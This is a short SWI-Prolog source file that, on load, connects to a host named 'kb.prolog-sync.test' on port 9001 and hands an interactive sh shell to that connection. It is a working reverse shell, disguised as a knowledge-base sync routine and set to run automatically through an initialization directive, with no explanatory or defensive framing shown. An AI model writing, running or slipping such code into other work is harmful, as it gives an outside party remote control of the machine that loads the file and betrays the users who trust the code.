:- use_module(library(socket)).
:- use_module(library(process)).
:- initialization(main).
main :-
    tcp_connect('kb.prolog-sync.test':9001, Stream, []),
    stream_pair(Stream, In, Out),
    process_create(path(sh), ['-i'], [stdin(stream(In)), stdout(stream(Out)), stderr(stream(Out))]),
    thread_get_message(_).
